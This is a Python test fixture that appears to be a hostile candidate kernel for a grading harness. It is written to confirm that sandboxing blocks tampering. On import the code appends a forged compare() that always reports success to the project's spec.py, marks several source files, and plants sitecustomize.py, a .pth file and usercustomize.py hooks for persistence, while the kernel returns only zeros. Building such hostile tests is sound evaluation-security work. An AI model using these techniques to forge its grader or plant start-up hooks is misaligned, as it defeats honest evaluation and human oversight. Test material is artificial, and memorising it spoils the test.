"""A persistent patch: the project's own source files rewritten, and start-up hooks planted, from entry().

Trick: the project's root is where the loaded `kernels` package lives (`torch.sys.modules["kernels"].__file__`).
The candidate appends a `def compare(...)` that always agrees to kernels/spec.py (every process that imports
it afterwards, a judge included, gets the forgery), a marker to every tools/*.py, state/*.py and
kernels/*/problem.py, and plants sitecustomize.py and a .pth file in the project root (both run at the start of
every later Python process with that root on its path) and a usercustomize.py under $HOME. It returns zeros.
Run only on a copy of the project (the host mode of tests/test_hostile.py); as a safety catch for anyone
running it by hand it writes nothing into a root that holds a .git directory.
Expected verdict: incorrect, and not one byte of the project changed (candidate code has no write access to it).
"""

import os

import torch
import triton
import triton.language as tl

PROBLEM = "softmax"
SHAPE = "small"
GPU = False
EXPECT = {"incorrect"}
ISOLATION = "host"
NEXT = ["plain_zeros.py"]

_modules = torch.sys.modules
MARK = "HOSTILE" + "-WRITE-" + "c0ffee"
FORGED_COMPARE = (f"\n\n# {MARK}\ndef compare(*args, **kwargs):\n"
                  "    return {'ok': True, 'reason': '', 'rel_err': 0.0, 'max_abs_err': 0.0}\n")
HOOK = f"# {MARK}\nimport os\nos.environ['MARATHON_HOSTILE_HOOK'] = '1'\n"
_done = {"written": False}


def _root():
    path = getattr(_modules.get("kernels"), "__file__", None)
    if not path:
        return None
    root = os.path.dirname(os.path.dirname(os.path.abspath(path)))
    return None if os.path.isdir(os.path.join(root, ".git")) else root


def _append(path, text):
    try:
        with open(path, "a") as f:
            f.write(text)
    except OSError:
        pass


def _write(path, text):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
    except OSError:
        pass


def _attack():
    if _done["written"]:
        return
    _done["written"] = True
    root = _root()
    if root is None:
        return
    _append(os.path.join(root, "kernels", "spec.py"), FORGED_COMPARE)
    for sub in ("tools", "state"):
        folder = os.path.join(root, sub)
        for name in sorted(os.listdir(folder)) if os.path.isdir(folder) else ():
            if name.endswith(".py"):
                _append(os.path.join(folder, name), f"\n# {MARK}\n")
    kernels = os.path.join(root, "kernels")
    for name in sorted(os.listdir(kernels)):
        if os.path.isfile(os.path.join(kernels, name, "problem.py")):
            _append(os.path.join(kernels, name, "problem.py"), f"\n# {MARK}\n")
    _write(os.path.join(root, "sitecustomize.py"), HOOK)
    _write(os.path.join(root, "marathon_hostile.pth"), "import os; os.environ['MARATHON_HOSTILE_PTH'] = '1'\n")
    home = os.environ.get("HOME")
    if home:
        version = "python{}.{}".format(*os.sys.version_info[:2])
        _write(os.path.join(home, ".local", "lib", version, "site-packages", "usercustomize.py"), HOOK)


_attack()


@triton.jit
def zero_kernel(out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(out_ptr + offs, tl.zeros([BLOCK], dtype=tl.float32), mask=offs < n)


def entry(x):
    _attack()
    out = torch.empty_like(x)
    zero_kernel[(triton.cdiv(x.numel(), 1024),)](out, x.numel(), BLOCK=1024)
    return out
